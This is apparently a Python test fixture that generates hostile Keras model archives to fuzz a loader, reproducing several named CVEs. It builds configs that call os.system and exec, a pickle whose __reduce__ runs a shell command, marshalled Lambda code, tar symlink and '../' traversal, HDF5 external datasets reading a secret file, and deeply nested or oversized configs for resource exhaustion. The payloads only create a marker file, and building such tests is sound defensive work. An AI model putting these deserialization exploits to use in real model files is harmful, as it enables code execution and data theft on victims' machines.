"""Archives of Keras 3 whose config would run code, touch files, or is absurd; the CVEs too."""

import base64
import io
import json
import marshal
import pickle
import tarfile

import h5py
from hostile_archives import weights_member
from hostile_case import Hostile, outside, ran, secret
from hostile_links import KERNEL

from benchmarks.fuzz.formats.keras_2 import legacy_config, write_legacy
from benchmarks.fuzz.formats.keras_3 import (
    keras_config,
    layer_config,
    write_keras_archive,
)


def archive_of(make_config):
    """A builder: an archive whose config a function of the path makes."""
    return lambda path: write_keras_archive(path, make_config(path))


def _with_layer(make_layer):
    """A builder: an archive whose model has one more layer, which a function of the path makes."""
    return lambda path: write_keras_archive(path, keras_config(make_layer(path)))


def _code(path):
    """Marshalled code that makes the file `ran`, as base64."""
    code = compile(f"open({str(ran(path))!r}, 'w').close()", "lambda", "exec")
    return base64.b64encode(marshal.dumps(code)).decode()


class _Runs:
    """What runs a command when it is unpickled."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        import os

        return os.system, (self.command,)


def pickled_command(path):
    """A pickle that makes the file `ran`."""
    return pickle.dumps(_Runs(f"touch '{ran(path)}'"))


def _lambda(path):
    function = {"class_name": "__lambda__", "config": {"code": _code(path), "defaults": None}}
    return layer_config("Lambda", "code", function=function)


def _legacy_lambda(path):
    layer = layer_config(
        "Lambda", "code", function=[_code(path), None, None], function_type="lambda"
    )
    write_legacy(path, legacy_config(layer))


def _function(name, module, *arguments):
    """A layer that is a function, with the arguments with which it would be called."""
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
        "name": f"layer_{name}",
        "inbound_nodes": [{"args": list(arguments), "kwargs": {}}],
    }


def _os_system(path):
    return {
        "module": "os",
        "class_name": "system",
        "config": {"name": "x", "command": f"touch '{ran(path)}'"},
        "registered_name": None,
        "build_config": {"input_shape": [f"touch '{ran(path)}'"]},
    }


def _functional(path, *layers):
    config = keras_config(*layers)
    config["class_name"] = "Functional"
    config["config"] |= {"input_layers": [["input", 0, 0]], "output_layers": [["head", 0, 0]]}
    return config


def _unsafe_first(path):
    return keras_config(_function("enable_unsafe_deserialization", "keras.config"), _lambda(path))


def _torch_module(path):
    module = {"class_name": "__bytes__", "config": base64.b64encode(pickled_command(path)).decode()}
    return layer_config("TorchModuleWrapper", "torch", module=module)


def _tar(path):
    """An archive of tar with a link outside and a member behind it."""
    with tarfile.open(path, "w") as archive:
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, str(outside(path))
        archive.addfile(link)
        for name in ("link/ran", "../outside/ran", str(ran(path))):
            archive.addfile(tarfile.TarInfo(name), io.BytesIO())


def _external(file, path):
    del file[KERNEL]
    file.create_dataset(KERNEL, (3, 3, 3, 4), "f4", external=[(str(secret(path)), 0, 432)])


def _huge(file, path):
    del file[KERNEL]
    file.create_dataset(KERNEL, (10**6, 10**6, 10**6), "f4", chunks=(1, 1, 1024))


def _soft(file, path):
    del file["layers/conv2d"]
    file["layers/conv2d"] = h5py.SoftLink("/layers/dense")


def _conv(**changes):
    """A config whose convolution has other values."""
    config = keras_config()
    config["config"]["layers"][1]["config"] |= changes
    return config


def _nested(depth):
    """Models within models."""
    config = keras_config()
    for number in range(depth):
        inner = config["config"] | {"name": f"model_{number}"}
        layers = [config["config"]["layers"][0], {**config, "config": inner}]
        config = {**config, "config": {**config["config"], "layers": layers}}
    return config


def _wrapped(depth):
    """Wrappers within wrappers."""
    layer = layer_config("Conv2D", "inner", filters=4, kernel_size=[3, 3])
    for number in range(depth):
        layer = layer_config("TimeDistributed", f"wrapper_{number}", layer=layer)
    return keras_config(layer)


def _text_of(config, old, new):
    text = json.dumps(config)
    assert old in text
    return text.replace(old, new)


def _cycle(path):
    """Layers of a functional model that read each other."""
    config = _functional(path)
    names = ["conv", "norm", "flat", "head"]
    for name, layer in zip(names, config["config"]["layers"][1:], strict=True):
        before = names[names.index(name) - 1]
        tensor = {
            "class_name": "__keras_tensor__",
            "config": {"shape": [None, 8, 8, 3], "keras_history": [before, 0, 0]},
        }
        layer["name"] = name
        layer["inbound_nodes"] = [{"args": [tensor], "kwargs": {}}]
    return config


def _many_layers(path):
    return keras_config(*(layer_config("Dropout", f"dropout_{i}", rate=0.5) for i in range(5000)))


def _odd_name(name):
    return lambda path: _text_of(keras_config(), '"name": "conv"', f'"name": {json.dumps(name)}')


_K = ".keras"
_JSON = "config|JSON"

CVES = {
    "CVE-2025-1550, a config that runs a function": Hostile(
        archive_of(lambda path: keras_config(_function("system", "os", f"touch '{ran(path)}'"))),
        _K,
        None,
    ),
    "CVE-2025-1550, with exec in a functional model": Hostile(
        archive_of(
            lambda path: _functional(
                path, _function("exec", "builtins", f"open({str(ran(path))!r}, 'w')")
            )
        ),
        _K,
        None,
    ),
    "CVE-2025-8747, a config that downloads a file": Hostile(
        archive_of(
            lambda path: _functional(
                path,
                _function(
                    "get_file", "keras.utils", "ran", f"file://{secret(path)}", str(outside(path))
                ),
            )
        ),
        _K,
        None,
    ),
    "CVE-2025-9905, code in a model of Keras 2": Hostile(_legacy_lambda, ".h5", None),
    "CVE-2025-9906, a config that allows code first": Hostile(archive_of(_unsafe_first), _K, None),
    "CVE-2025-49655, a module of PyTorch as a pickle": Hostile(
        _with_layer(_torch_module), _K, None
    ),
    "CVE-2025-12058, a vocabulary in another file": Hostile(
        _with_layer(
            lambda path: layer_config("StringLookup", "lookup", vocabulary=str(secret(path)))
        ),
        _K,
        None,
    ),
    "CVE-2025-12060, an archive of tar that climbs": Hostile(_tar, _K, "tar archive"),
    "CVE-2026-0897, a kernel that claims exabytes": Hostile(
        weights_member(_huge), _K, "expand", True
    ),
    "CVE-2026-1462, a SavedModel elsewhere": Hostile(
        _with_layer(lambda path: layer_config("TFSMLayer", "tfsm", filepath=str(outside(path)))),
        _K,
        None,
    ),
    "CVE-2026-1669, a kernel whose data lie in another file": Hostile(
        weights_member(_external), _K, "another file", True
    ),
    "CVE-2026-12479, a layer's name that climbs": Hostile(
        archive_of(_odd_name("../../outside/ran")), _K, None
    ),
}

CONFIGS = {
    **CVES,
    "a soft link in the weights": Hostile(weights_member(_soft), _K, "soft link", True),
    "a Lambda with code": Hostile(_with_layer(_lambda), _K, None),
    "a layer that is os.system": Hostile(_with_layer(_os_system), _K, None),
    "a config 100,000 levels deep": Hostile(
        archive_of(lambda path: '{"config":' * 100_000 + "1" + "}" * 100_000), _K, "levels", True
    ),
    "lists 100,000 levels deep": Hostile(
        archive_of(lambda path: "[" * 100_000 + "]" * 100_000), _K, "levels", True
    ),
    "a config 100,000 levels deep that does not end": Hostile(
        archive_of(lambda path: '{"config":' * 100_000), _K, "levels", True
    ),
    "a key of a layer 900 levels deep": Hostile(
        archive_of(lambda path: _conv(note=json.loads("[" * 900 + "]" * 900))), _K, ""
    ),
    "models 300 levels deep": Hostile(archive_of(lambda path: _nested(300)), _K, "levels", True),
    "wrappers 300 levels deep": Hostile(archive_of(lambda path: _wrapped(300)), _K, "levels", True),
    "a config of 70 MB": Hostile(
        archive_of(lambda path: _conv(note="x" * (70 * 2**20))), _K, "config", True
    ),
    "a number of 1,000,000 digits": Hostile(
        archive_of(
            lambda path: _text_of(keras_config(), '"filters": 4', '"filters": ' + "9" * 10**6)
        ),
        _K,
        "",
    ),
    "sizes that are huge": Hostile(
        archive_of(lambda path: _conv(filters=10**30, kernel_size=[10**30] * 2, groups=10**30)),
        _K,
        None,
        skipped_because="does not fit",
    ),
    "sizes that are negative": Hostile(
        archive_of(lambda path: _conv(filters=-1, kernel_size=[-3, -3], groups=-1)),
        _K,
        None,
        skipped_because="does not fit",
    ),
    "sizes that are zero": Hostile(
        archive_of(lambda path: _conv(filters=0, kernel_size=[0, 0], groups=0)),
        _K,
        None,
        skipped_because="does not fit",
    ),
    "sizes that are no numbers": Hostile(
        archive_of(
            lambda path: _text_of(
                _conv(kernel_size=["nan", "inf"]), '"nan", "inf"', "NaN, Infinity"
            )
        ),
        _K,
        None,
    ),
    "an input of a huge size": Hostile(
        archive_of(lambda path: _text_of(keras_config(), "null, 8, 8, 3", "null, 1e400, -8, 3")),
        _K,
        None,
    ),
    "keys that come twice": Hostile(
        archive_of(
            lambda path: _text_of(
                keras_config(), '"class_name": "Dense"', '"class_name": "Dense", "class_name": "X"'
            )
        ),
        _K,
        None,
    ),
    "layers of one name": Hostile(
        archive_of(lambda path: _text_of(keras_config(), '"name": "head"', '"name": "conv"')),
        _K,
        None,
        skipped_because="in its place",
    ),
    "5,000 layers": Hostile(archive_of(_many_layers), _K, None, is_large=True),
    "layers that read each other": Hostile(archive_of(_cycle), _K, None),
    "a layer without a name": Hostile(
        archive_of(_odd_name("")), _K, None, skipped_because="in its place"
    ),
    "a name with control characters": Hostile(
        archive_of(_odd_name("\x1b[31m\x07\r\n\0")), _K, None, skipped_because="in its place"
    ),
    "a name that is half a surrogate": Hostile(
        archive_of(_odd_name("\ud800")), _K, None, skipped_because="in its place"
    ),
    "a name of 1,000,000 letters": Hostile(
        archive_of(_odd_name("x" * 10**6)), _K, None, skipped_because="in its place"
    ),
    "a name that is markup": Hostile(
        archive_of(_odd_name("[red]<b>|{0}%s")), _K, None, skipped_because="in its place"
    ),
    "a config that is null": Hostile(archive_of(lambda path: "null"), _K, _JSON),
    "a config that is a number": Hostile(archive_of(lambda path: "1"), _K, _JSON),
    "a config that is a list": Hostile(archive_of(lambda path: "[]"), _K, _JSON),
    "a config that is empty": Hostile(archive_of(lambda path: b""), _K, _JSON),
    "a config that is no JSON": Hostile(archive_of(lambda path: b"{'a': __import__}"), _K, _JSON),
    "a config that is no UTF-8": Hostile(archive_of(lambda path: b'{"a": "\xff\xfe"}'), _K, _JSON),
    "a config in UTF-16": Hostile(
        archive_of(lambda path: json.dumps(keras_config()).encode("utf-16")), _K, ""
    ),
    "a config without keys": Hostile(archive_of(lambda path: "{}"), _K, _JSON),
}
